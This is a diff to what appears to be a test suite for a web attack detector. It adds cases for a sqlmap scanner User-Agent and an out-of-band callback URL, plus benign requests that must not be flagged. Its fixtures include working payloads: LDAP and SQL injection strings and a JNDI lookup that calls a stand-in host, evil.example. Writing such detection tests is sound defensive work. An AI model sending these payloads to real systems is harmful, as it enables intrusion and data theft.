@@ -101,6 +101,9 @@ apis:
     ['ldapi', '/graphql', json({ query: 'query { employees(filter: "*)(|(objectClass=*)(mail=*") { cn } }' })],
     ['sqli', '/api/status (Authorization: Bearer …UNION…)', { headers: { authorization: "Bearer x'/**/UNION/**/SELECT/**/password/**/FROM/**/users#" } }],
     ['jndi', '/static/app.js (If-Modified-Since: ${jndi…})', { headers: { 'if-modified-since': '${${lower:j}ndi:ldap://evil.example/a}' } }],
+    // attack tooling: a scanner's User-Agent, an out-of-band callback host in a field
+    ['protocol', '/items (User-Agent: sqlmap)', { headers: { 'user-agent': 'sqlmap/1.7.4#stable (https://sqlmap.org)' } }],
+    ['protocol', '/webhooks', json({ url: 'http://c1a2b3d4e5.oast.fun/x' })],
   ];
 
   for (const [category, path, init] of attacks) {
@@ -128,6 +131,9 @@ apis:
     ['/items/7', { method: 'POST', headers: { 'x-http-method-override': 'post', 'content-type': 'application/json' }, body: '{}' }],
     ['/graphql', json({ query: 'mutation Save($id: ID!) { saveNote(id: $id, input: {title: "O\'Brien; select a plan", tags: ["a&b", "<draft>"]}) { id ...F } } fragment F on Note { updatedAt }', variables: { id: '7' } })],
     ['/me', { headers: { authorization: 'Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln', 'if-none-match': 'W/"<1 OR 1=1>"' } }],
+    ['/items', { headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36' } }],
+    // a URL-encoded value in a JSON member: its `+` are spaces, and the text is prose
+    ['/notes', json({ title: 'JavaScript%3A+Basics+of+JavaScript+Language' })],
   ];
 
   for (const [path, init] of benign) {
